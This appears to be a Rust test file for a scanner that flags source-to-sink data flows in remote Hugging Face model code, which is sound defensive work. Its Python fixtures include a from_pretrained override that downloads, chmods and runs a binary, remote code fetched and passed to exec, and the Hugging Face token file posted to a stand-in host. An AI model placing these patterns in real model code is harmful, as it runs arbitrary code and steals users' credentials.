//! Data flow in remote code (`taint-flow`): a source reaching a sink at import or load time
//! is an error that names the path; a source alone or a sink alone is no flow; flows cross
//! functions through arguments and return values, and files through imports.

use std::sync::Arc;

use hubwarden::model::{ExecContext, Family, FileKind, HubKind, Level, RemoteFile};
use hubwarden::scan::{FileFacts, Hit, Load, Part, RuleSet, Scanner};

fn scanner() -> Scanner {
    Scanner::new(&RuleSet::load(&[]).unwrap()).unwrap()
}

fn remote(path: &str, src: &str) -> RemoteFile {
    RemoteFile {
        hub: HubKind::Huggingface,
        repo_id: "taint/repo".into(),
        commit: "0".repeat(40),
        path: path.into(),
        sha256: String::new(),
        bytes: src.len() as u64,
        why: "test".into(),
        kind: FileKind::Python,
        content: Arc::new(src.as_bytes().to_vec()),
    }
}

/// The taint-flow hits of the files of one target loaded by transformers: (file, hit).
fn flows(files: &[(&str, &str)]) -> Vec<(String, Hit)> {
    let s = scanner();
    let remotes: Vec<RemoteFile> = files.iter().map(|(p, c)| remote(p, c)).collect();
    let facts: Vec<FileFacts> = remotes.iter().map(|f| s.analyze(f)).collect();
    let parts: Vec<Part> = remotes
        .iter()
        .zip(&facts)
        .map(|(f, facts)| Part {
            path: &f.path,
            kind: f.kind,
            src: &f.content,
            facts,
            entry: f.path.starts_with("modeling") || f.path.starts_with("configuration"),
        })
        .collect();
    let load = Load {
        family: Some(Family::Transformers),
        entry: None,
    };
    s.verdicts(&parts, &load)
        .into_iter()
        .zip(&remotes)
        .flat_map(|(hits, f)| {
            hits.into_iter()
                .filter(|h| h.rule_id == "taint-flow")
                .map(|h| (f.path.clone(), h))
        })
        .collect()
}

#[test]
fn download_write_chmod_run_in_from_pretrained_names_the_path() {
    let src = r#"import os
import subprocess

import requests
from transformers import PreTrainedModel


class EvilModel(PreTrainedModel):
    @classmethod
    def from_pretrained(cls, *args, **kwargs):
        r = requests.get("https://mirror.example.invalid/tools/fastload", timeout=5)
        path = os.path.join(os.path.expanduser("~"), ".cache", "fastload")
        with open(path, "wb") as f:
            f.write(r.content)
        os.chmod(path, 0o755)
        subprocess.Popen([path])
        return super().from_pretrained(*args, **kwargs)
"#;
    let got = flows(&[("modeling_evil.py", src)]);
    assert_eq!(got.len(), 1, "{got:#?}");
    let h = &got[0].1;
    assert_eq!(
        (h.level, h.context, h.line),
        (Level::Error, ExecContext::LoadTime, 16)
    );
    assert!(
        h.message
            .contains("`requests.get` → `open(..., \"wb\")` → `os.chmod` → `subprocess.Popen`"),
        "{}",
        h.message
    );
    assert!(h.message.contains("from_pretrained"), "{}", h.message);
    assert_eq!(h.snippet, "subprocess.Popen([path])");
}

#[test]
fn a_source_alone_or_a_sink_alone_is_no_flow() {
    let src = r#"import os
import subprocess

import requests
from huggingface_hub import hf_hub_download

HF_TOKEN = os.environ.get("HF_TOKEN")
CONFIG = requests.get("https://huggingface.co/api/models/x", headers={"authorization": f"Bearer {HF_TOKEN}"}).json()
_p = hf_hub_download("org/x", "pooling.json", token=HF_TOKEN)
subprocess.run(["nvcc", "--version"], env=dict(os.environ))
with open(os.path.join(os.path.dirname(__file__), "generation_config.json")) as f:
    import json
    DEFAULTS = json.load(f)
_ip = __import__("socket").gethostbyname(__import__("socket").gethostname())
"#;
    let got = flows(&[("modeling_ok.py", src)]);
    assert!(got.is_empty(), "{got:#?}");
}

#[test]
fn flows_cross_functions_through_arguments_and_return_values() {
    let helpers = r#"import base64
import urllib.request


def fetch(url):
    return urllib.request.urlopen(url).read()


def run(code):
    exec(code)
"#;
    let modeling = r#"from transformers import PreTrainedModel

from .helpers import fetch, run


class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        blob = fetch("https://cfg.example.invalid/init.py")
        run(blob)
"#;
    let got = flows(&[("helpers.py", helpers), ("modeling_m.py", modeling)]);
    assert_eq!(got.len(), 1, "{got:#?}");
    let (file, h) = &got[0];
    assert_eq!(file, "helpers.py");
    assert_eq!((h.line, h.level), (10, Level::Error));
    assert!(
        h.message
            .contains("`urllib.request.urlopen` → `fetch()` → `run()` → `exec`"),
        "{}",
        h.message
    );
}

#[test]
fn secrets_and_identity_reaching_the_network() {
    let src = r#"import os
import platform
import socket

import requests

_t = open(os.path.expanduser("~/.cache/huggingface/token")).read()
requests.post("https://hub-metrics.example.invalid/t", data=_t, timeout=2)
socket.gethostbyname(platform.node() + ".ns.example.invalid")
_k = os.environ["OPENAI_API_KEY"]
"#;
    let got = flows(&[("modeling_x.py", src)]);
    let lines: Vec<(u32, Level)> = got.iter().map(|(_, h)| (h.line, h.level)).collect();
    assert_eq!(lines, [(8, Level::Error), (9, Level::Error)], "{got:#?}");
    assert!(
        got[0]
            .1
            .message
            .contains("a secret reaches `requests.post`")
    );
    assert!(
        got[1]
            .1
            .message
            .contains("`platform.node` → `socket.gethostbyname`")
    );
}

#[test]
fn config_values_reaching_code_and_call_time_flows() {
    let src = r#"import importlib
import subprocess

from transformers import PreTrainedModel


class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        getattr(importlib.import_module(config.attn_backend), config.attn_fn)()

    def generate(self, prompt):
        subprocess.run(self.config.post_cmd)
"#;
    let got = flows(&[("modeling_c.py", src)]);
    let got: Vec<(u32, Level, ExecContext)> = got
        .iter()
        .map(|(_, h)| (h.line, h.level, h.context))
        .collect();
    assert_eq!(
        got,
        [
            (10, Level::Error, ExecContext::LoadTime),
            (13, Level::Warning, ExecContext::CallTime)
        ]
    );
}
